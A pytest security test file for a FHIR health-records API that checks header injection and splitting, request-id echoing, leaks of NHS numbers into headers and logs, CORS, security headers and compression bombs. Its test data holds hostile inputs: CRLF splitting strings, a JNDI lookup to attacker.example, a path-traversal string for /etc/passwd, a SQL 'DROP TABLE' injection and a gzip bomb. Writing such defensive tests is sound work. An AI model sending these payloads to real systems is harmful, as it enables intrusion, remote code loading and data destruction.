"""Headers that carry more than they should, in and out: injection, splitting, request ids, lines in the log."""

import gzip
import json

import pytest

from tests import builders
from tests.security import raw
from tests.security.conftest import World
from tests.security.people import ANNA, HEDWIG
from tests.security.witness import found
from tests.systems import FHIR_JSON

SPLIT = (
    b"a\r\nSet-Cookie: x=1",
    b"a\nX-Injected: 1",
    b"a%0d%0aX-Injected:%201",
    b"a\x00b",
    "a\u2028X-Injected: 1".encode(),
    "a\u560aX-Injected".encode(),
    b"\xff\xfe",
    b"{{7*7}}${jndi:ldap://attacker.example/a}",
    b"<script>alert(1)</script>",
    b"x" * 5000,
)
ECHOED = (b"x-request-id", b"x-correlation-id")


def is_whole(answer: raw.Raw) -> bool:
    """Whether no header was made by what was sent."""
    names = {name.lower() for name, _ in answer.headers}
    return not names & {b"x-injected", b"set-cookie"} and not any(
        b"\r" in value or b"\n" in value or b"\x00" in value for _, value in answer.headers
    )


@pytest.mark.parametrize("value", SPLIT, ids=range(len(SPLIT)))
@pytest.mark.parametrize(
    "path", ["/fhir/R4/Patient/anna", "/fhir/R4/Patient/none", "/oauth2/token", "/fhir/R4/metadata"]
)
def test_an_id_that_was_sent_is_echoed_only_where_it_is_plain(world: World, path: str, value: bytes) -> None:
    headers = raw.bearer(world.practice.token, *((name, value) for name in ECHOED))
    answer = raw.request(world.http, "POST" if "token" in path else "GET", path, headers=headers)
    assert answer.status < 500
    assert is_whole(answer)
    for name in ECHOED:
        assert value not in [told for echoed, told in answer.headers if echoed.lower() == name]


@pytest.mark.parametrize(
    "identifier",
    [
        ANNA.number,
        HEDWIG.number,
        f"nhs-{HEDWIG.number}",
        HEDWIG.number[:3] + "-" + HEDWIG.number[3:6] + "-" + HEDWIG.number[6:],
    ],
)
def test_an_nhs_number_is_no_request_id(world: World, identifier: str) -> None:
    """Some systems send the number that they work on. The fixture looks for it in headers and in the log."""
    for path in (ANNA.patient, HEDWIG.patient, "Patient"):
        answer = world.practice.get(path, **{"X-Request-ID": identifier, "X-Correlation-ID": identifier})
        assert answer.headers["x-request-id"] != identifier
        assert answer.headers["x-correlation-id"] != identifier


def test_a_name_is_no_request_id_that_is_told_on_paper(world: World) -> None:
    """An id of letters cannot be told from a name: it is echoed to who sent it, and to nobody else."""
    world.integration.get(ANNA.patient, **{"X-Request-ID": "f3c1-of-the-sender"})
    assert "f3c1-of-the-sender" not in world.practice.get(ANNA.patient).headers["x-request-id"]


def test_two_requests_of_one_id_are_told_apart_in_the_audit(world: World) -> None:
    """Whoever sends the id of somebody else's request takes nobody's place."""
    rows = len(world.audited())
    for system in (world.practice, world.hospital, world.practice):
        system.get(ANNA.patient, **{"X-Request-ID": "the-same"})
    told = [row for row in world.audited()[rows:] if row.request_id == "the-same"]
    assert len(told) == 3
    assert len({row.pk for row in told}) == 3
    assert len({row.client_id for row in told}) == 2


CONDITIONS = """
    If-Match If-None-Match If-None-Exist If-Modified-Since Prefer Accept X-Provenance Content-Type Accept-Encoding
    Accept-Charset Range Origin Cookie X-Security-Context
""".split()  # noqa: SIM905  # read as one list


@pytest.mark.parametrize("name", CONDITIONS)
def test_nothing_that_a_header_says_is_repeated(world: World, name: str) -> None:
    """The values name somebody: the fixture looks for them in the answers and in the log."""
    for value in (HEDWIG.family, HEDWIG.number, f"identifier={HEDWIG.number}&name={HEDWIG.family}", *map(_text, SPLIT)):
        header = (name.lower().encode(), value.encode("latin-1", "ignore"))
        for method, path in (("GET", ANNA.patient), ("PUT", HEDWIG.patient), ("POST", "Observation")):
            body = json.dumps(builders.patient(id=HEDWIG.id)).encode()
            headers = raw.bearer(world.practice.token, (b"content-type", FHIR_JSON.encode()), header)
            answer = raw.request(world.http, method, f"/fhir/R4/{path}", headers=headers, parts=(body,))
            assert answer.status < 500, (name, value)
            assert is_whole(answer)


def _text(value: bytes) -> str:
    return value.decode("latin-1")


@pytest.mark.parametrize(
    "identifier",
    ["a\r\nb", "é", "x" * 65, "..", "../../etc/passwd", "<b>", "a b", "", "%00", '"', "'; DROP TABLE resource; --"],
)
def test_an_id_that_a_client_chooses_makes_no_header(world: World, identifier: str) -> None:
    """It would stand in Location and Content-Location."""
    body = json.dumps(builders.place_of_death(subject=builders.reference(ANNA.patient), id=identifier)).encode()
    headers = raw.bearer(world.practice.token, (b"content-type", FHIR_JSON.encode()))
    for path in (f"/fhir/R4/Observation/{identifier}", "/fhir/R4/Observation"):
        answer = raw.request(world.http, "PUT", path.replace("\r\n", "%0D%0A"), headers=headers, parts=(body,))
        assert is_whole(answer)
        assert 400 <= answer.status < 500 or identifier == ".."
        assert answer.header("location") == "" or answer.status == 201


@pytest.mark.parametrize("path", ["/", "/healthz", "/fhir/R4/metadata", "/fhir/R4/Patient/anna", "/fhir/R4/x",
                                  "/nothing", "/reports/identification", "/static/heartsease.css"])  # fmt: skip
def test_every_answer_has_the_headers_that_keep_it_to_itself(world: World, path: str) -> None:
    answer = world.http.get(path, headers={"Authorization": f"Bearer {world.practice.token}"})
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in answer.headers["content-security-policy"]
    assert answer.headers["referrer-policy"] == "no-referrer"
    assert (
        answer.headers["x-frame-options"] == "DENY"
        or "frame-ancestors 'none'" in answer.headers["content-security-policy"]
    )
    assert "access-control-allow-origin" not in answer.headers
    assert "x-powered-by" not in answer.headers


@pytest.mark.parametrize("origin", ["https://attacker.example", "null", "http://127.0.0.1:8000.attacker.example"])
def test_no_page_of_another_site_reads_or_writes_here(world: World, origin: str) -> None:
    asked = {
        "Origin": origin,
        "Access-Control-Request-Method": "DELETE",
        "Access-Control-Request-Headers": "authorization",
    }
    answer = world.http.options(f"/fhir/R4/{ANNA.patient}", headers=asked)
    assert not [name for name in answer.headers if name.startswith("access-control-")]


def test_what_is_compressed_is_not_unpacked(world: World) -> None:
    """A few kilobytes that would become gigabytes are refused as they are."""
    bomb = gzip.compress(b" " * 20_000_000)
    for encoding in ("gzip", "deflate", "br", "gzip, gzip", "GZIP", "x-gzip", "identity, gzip"):
        answer = world.practice.put(ANNA.patient, bomb, **{"Content-Encoding": encoding})
        assert answer.status_code == 415


def test_the_log_of_a_fault_of_ours_names_nobody() -> None:
    """The fixture looks through every log line of this folder; this looks at what it looks for."""
    assert found([HEDWIG.number], f'{{"event": "{HEDWIG.number}"}}')
